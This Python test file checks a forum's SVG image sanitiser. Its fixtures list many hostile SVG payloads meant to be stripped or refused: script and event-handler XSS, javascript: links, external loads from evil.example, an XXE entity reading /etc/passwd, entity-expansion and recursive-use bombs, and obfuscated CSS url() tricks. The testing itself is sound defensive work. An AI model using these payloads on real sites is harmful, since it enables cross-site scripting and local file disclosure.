"""Drawings are kept as drawings, and nothing that runs, loads or refers elsewhere is left in them."""

from __future__ import annotations

import base64
import re
import time
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from forumapp.domain.images.checking import check_picture
from forumapp.domain.images.rules import BadPicture, MediaType
from forumapp.domain.images.styles import declarations, is_safe
from tests.pictures import AI, animated, bomb, image, photo, saved, svg

if TYPE_CHECKING:
    from collections.abc import Iterator

LOUD = ("script", "onload", "onclick", "javascript", "http:", "https:", "//", "file:", "foreign", "import", "@", "iframe",
    "evil", "alert", "<!", "animate", "xml-stylesheet", "style", "class")  # fmt: skip
NAMESPACES = ('xmlns="http://www.w3.org/2000/svg"', 'xmlns:xlink="http://www.w3.org/1999/xlink"')


def cleaned(content: bytes) -> str:
    picture = check_picture(content)
    assert picture.media_type == MediaType.SVG
    text = picture.content.decode()
    for one in NAMESPACES:
        text = text.replace(one, "")
    return text


HARMFUL = {
    "a script": "<script>alert('evil')</script>",
    "a script from elsewhere": '<script xlink:href="https://evil.example/x.js"/>',
    "a handler": '<rect width="9" height="9" onload="alert(1)" onclick="alert(1)"/>',
    "a link that runs": '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "a plain link that runs": '<a href="javascript:alert(1)" target="_blank"><rect width="9" height="9"/></a>',
    "a use of elsewhere": '<use xlink:href="https://evil.example/x.svg#a"/>',
    "a use of a document": '<use href="data:image/svg+xml,%3Csvg onload=alert(1)%3E#a"/>',
    "a picture of elsewhere": '<image width="9" height="9" xlink:href="http://evil.example/track.png"/>',
    "a picture of this machine": '<image width="9" height="9" href="file:///etc/passwd"/>',
    "a drawing in it": f'<image width="9" height="9" href="data:image/svg+xml;base64,{base64.b64encode(svg("<script/>")).decode()}"/>',
    "a page in it": '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example"/></foreignObject>',
    "a page without a namespace": '<iframe src="//evil.example"/><body onload="alert(1)"/>',
    "a sheet from elsewhere": '<style>@import url("https://evil.example/a.css"); text{fill:red}</style>',
    "a font from elsewhere": "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)} text{fill:red}</style>",
    "an address in a sheet": "<style>rect{fill:url(http://evil.example/#a)} .a{background:url(//evil.example)}</style>",
    "an address in a style": '<rect width="9" height="9" style="fill:url(//evil.example/p.svg#x);cursor:url(//evil.example)"/>',
    "an address in an attribute": '<rect width="9" height="9" fill="url(https://evil.example/p.svg#x)" filter="url(//evil.example)"/>',
    "an escaped address": '<rect width="9" height="9" style="fill:u\\72l(//evil.example)"/>',
    "an address behind a comment": '<rect width="9" height="9" style="fill:/**/url(//evil.example)"/>',
    "a sheet of its own": '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example"/>',
    "a change in time": '<animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/>',
    "a change of a link": '<a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a>',
    "a base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "an instruction": '<?xml-stylesheet href="//evil.example"?><?php alert ?>',
    "a handler in another namespace": '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    "a comment": "<!-- evil --><rect/>",
    "upper case": "<SCRIPT>alert(1)</SCRIPT><ForeignObject/>",
}


@pytest.mark.parametrize("inner", HARMFUL.values(), ids=HARMFUL)
def test_what_could_do_harm_is_left_out_and_the_rest_stays(inner: str) -> None:
    found = cleaned(svg(inner))
    assert [word for word in LOUD if word in found.lower()] == []
    assert '<rect width="40" height="20" fill="#c81e1e"' in found


BOMBS = {
    "entities": "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
        f"<!ENTITY {chr(98 + n)} '&{chr(97 + n)};&{chr(97 + n)};&{chr(97 + n)};'>" for n in range(12)
    ) + "]><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text>&m;</text></svg>",
    "an entity from elsewhere": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text>&x;</text></svg>",
    "a parameter entity": "<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><text>&y;</text></svg>",
    "a late type": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><!DOCTYPE svg [<!ENTITY x 'y'>]><text>&x;</text></svg>",
    "not closed": "<svg xmlns='http://www.w3.org/2000/svg'><g>",
    "no drawing": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><script>1</script></svg>",
    "of no namespace": "<svg viewBox='0 0 9 9'><rect width='9' height='9'/></svg>",
    "a page around it": "<html><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><rect/></svg></html>",
    "without a size": "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>",
    "of no size": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 0 9'><rect width='9' height='9'/></svg>",
    "of endless size": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1e999 9'><rect width='9' height='9'/></svg>",
}  # fmt: skip


@pytest.mark.parametrize("text", BOMBS.values(), ids=BOMBS)
def test_what_is_refused_as_a_whole(text: str) -> None:
    with pytest.raises(BadPicture):
        check_picture(text.encode())


def use_bomb() -> str:
    groups = "".join(f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
    return f'<g id="g0"><rect width="1" height="1"/></g>{groups}<use href="#g9"/>'


def pattern_bomb() -> str:
    tiles = "".join(
        f'<pattern id="p{n}" width="9" height="9">'
        + f'<rect fill="url(#p{n - 1})" width="1" height="1"/>' * 10
        + "</pattern>"
        for n in range(1, 10)
    )
    return f'<pattern id="p0" width="9" height="9"><rect/></pattern>{tiles}<rect style="fill:url(#p9)" width="9" height="9"/>'


@pytest.mark.parametrize(
    "inner",
    [
        use_bomb(),
        pattern_bomb(),
        '<g id="a"><use href="#a"/></g>',
        '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
        "<g>" * 200 + "</g>" * 200,
        "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(2000)),
        '<image href="data:image/png;base64,x"/>' * 11,
    ],
    ids=[
        "uses of uses",
        "patterns of patterns",
        "itself",
        "each other",
        "too deep",
        "too long a chain",
        "too many pictures",
    ],
)
def test_a_few_elements_cannot_mean_millions(inner: str) -> None:
    begun = time.monotonic()
    with pytest.raises(BadPicture) as refusal:
        check_picture(svg(inner))
    assert refusal.value.code == "too-complex"
    assert time.monotonic() - begun < 5


@pytest.mark.parametrize(
    "noise",
    [
        "/*" * 300_000,
        "a" * 600_000,
        "{" * 600_000,
        "a{" * 300_000,
        "url(" * 150_000,
        "url(#" + "a" * 600_000,
        "}" * 600_000,
    ],
    ids=["comments", "letters", "braces", "rules", "addresses", "a long address", "ends"],
)
def test_no_style_sheet_takes_long(noise: str) -> None:
    begun = time.monotonic()
    check_picture(svg(f"<style>{noise}</style><rect style='fill:{noise}'/>"))
    assert time.monotonic() - begun < 5


MANY_RULES = "".join(f".c{n}{{fill:red}}" for n in range(30_000))
LIGHT = {
    "rules for many": f"<style>{MANY_RULES}</style>" + '<rect class="c1"/>' * 40_000,
    "names for many": f"<style>{','.join(f'.c{n}' for n in range(90_000))}{{{'fill:red;' * 70_000}}}</style>",
}
HEAVY = {
    "a long style for many": f"<style>.c{{font-family:{'a' * 500_000}}}</style>" + '<rect class="c"/>' * 50_000,
    "more than can be": "<g/>" * 150_000,
}


@pytest.mark.parametrize("inner", LIGHT.values(), ids=LIGHT)
def test_no_drawing_costs_more_than_it_is_long(inner: str) -> None:
    begun = time.process_time()
    check_picture(svg(inner))
    assert time.process_time() - begun < 4


@pytest.mark.parametrize("inner", HEAVY.values(), ids=HEAVY)
def test_what_would_grow_is_refused_before_it_does(inner: str) -> None:
    begun = time.process_time()
    with pytest.raises(BadPicture) as refusal:
        check_picture(svg(inner))
    assert refusal.value.code == "too-complex"
    assert time.process_time() - begun < 4


def test_a_photo_is_no_drawing() -> None:
    with pytest.raises(BadPicture) as refusal:
        check_picture(svg(""), aspect=1.0)
    assert refusal.value.code == "not-a-photo"


@pytest.mark.parametrize("noise", ["<!DOCTYPE svg [" * 1200, "<!--" * 4000, "<?xml " * 3000, " " * 900_000])
def test_no_beginning_takes_long(noise: str) -> None:
    begun = time.monotonic()
    with pytest.raises(BadPicture):
        check_picture(b"<" + noise.encode() + svg(""))
    assert time.monotonic() - begun < 5


def test_a_logo_of_a_drawing_program_stays_what_it_is() -> None:
    picture = check_picture(AI.encode())
    assert (picture.media_type, picture.width, picture.height) == (MediaType.SVG, 1000, 500)
    text = cleaned(AI.encode())
    assert 'viewBox="0 0 120 60"' in text
    assert re.search(
        r'<rect width="60" height="60" opacity="0.5" fill="#C81E1E"|<rect width="60" height="60" fill="#C81E1E" opacity="0.5"',
        text,
    )
    assert 'fill="url(#SVGID_1_)"' in text
    assert 'stop-color="#1E1EC8"' in text
    assert '<use overflow="visible" xlink:href="#SVGID_2_"' in text
    assert "论坛 &amp; Forum" in text
    assert "font-family=\"'MyriadPro-Regular'\"" in text
    for gone in ("adobe", "pgf", "metadata", "foreign", "style", "class", "DOCTYPE"):
        assert gone not in text


def test_a_picture_within_a_drawing_is_checked_like_any_other() -> None:
    def holding(content: bytes) -> bytes:
        return svg(
            f'<image width="9" height="9" xlink:href="data:image/png;base64,{base64.b64encode(content).decode()}"/>'
        )

    assert "data:image/png;base64," in cleaned(holding(saved(image(), "PNG")))
    inner = re.search(r"data:image/jpeg;base64,([^\"]+)", cleaned(holding(photo())))
    assert inner
    assert b"Secret Phone" not in base64.b64decode(inner[1])
    assert "data:image/png" in cleaned(holding(animated()))
    for bad in (bomb(9_000, 9_000), b"<script>"):
        with pytest.raises(BadPicture):
            check_picture(holding(bad))


@pytest.mark.parametrize(
    ("attributes", "size", "box"),
    [
        ('viewBox="0 0 200 50"', (1000, 250), "0 0 200 50"),
        ('width="200" height="50"', (1000, 250), "0 0 200 50"),
        ('width="2in" height="1in"', (1000, 500), "0 0 192 96"),
        ('width="100%" height="100%" viewBox="-5,-5 30,60"', (500, 1000), "-5,-5 30,60"),
        ('width="400" height="100" viewBox="0 0 40 10"', (1000, 250), "0 0 40 10"),
        ('viewBox="0 0 .5 .25"', (1000, 500), "0 0 .5 .25"),
    ],
)
def test_a_drawing_has_a_size_and_a_box(attributes: str, size: tuple[int, int], box: str) -> None:
    picture = check_picture(svg("", attributes))
    root = ET.fromstring(picture.content)
    assert (picture.width, picture.height) == size
    assert (root.get("width"), root.get("height"), root.get("viewBox")) == (*map(str, size), box)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_how_a_drawing_is_encoded_is_all_one(encoding: str) -> None:
    assert "论坛" in cleaned(AI.replace('encoding="utf-8"', f'encoding="{encoding[:6].strip("-s")}"').encode(encoding))


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("#fff", True),
        ("url(#a)", True),
        ("url('#a.b-c')", True),
        ("rgb(1, 2, 3) none", True),
        ("matrix(1 0 0 1 -3.5 2e1)", True),
        ("'Noto Sans SC', sans-serif", True),
        ("url(x)", False),
        ("url( 'a#b' )", False),
        ("URL(#a)", False),
        ("expression(1)", False),
        ("javascript:alert(1)", False),
        ("image-set(#a)", False),
        ("var(--x)", False),
        ("\\75rl(#a)", False),
        ("a;b", False),
        ("<a>", False),
    ],
)
def test_values_that_only_draw(value: str, safe: bool) -> None:
    assert is_safe(value) is safe


@given(st.text(max_size=60))
def test_no_style_carries_an_address(text: str) -> None:
    for value in declarations(f"fill:{text};{text};stroke : {text}!important").values():
        assert not re.search(r":|\\|url\s*\(\s*['\"]?[^#'\"]", value)


def words() -> Iterator[str]:
    yield from HARMFUL.values()
    yield from (
        '<g id="a">',
        "</g>",
        '<use href="#a"/>',
        "<text>x",
        "</text>",
        "&lt;script&gt;",
        "<![CDATA[<script>]]>",
    )


@given(st.lists(st.sampled_from(list(words())), max_size=6))
def test_whatever_is_put_together_is_refused_or_clean(parts: list[str]) -> None:
    try:
        found = cleaned(svg("".join(parts)))
    except BadPicture:
        return
    once = check_picture(svg("".join(parts))).content
    for element in ET.fromstring(once).iter():
        assert element.tag.startswith("{http://www.w3.org/2000/svg}")
        assert not [name for name in element.attrib if name.lower().startswith("on")]
    assert "javascript" not in found
    assert check_picture(once).content == once  # cleaning what is clean changes nothing
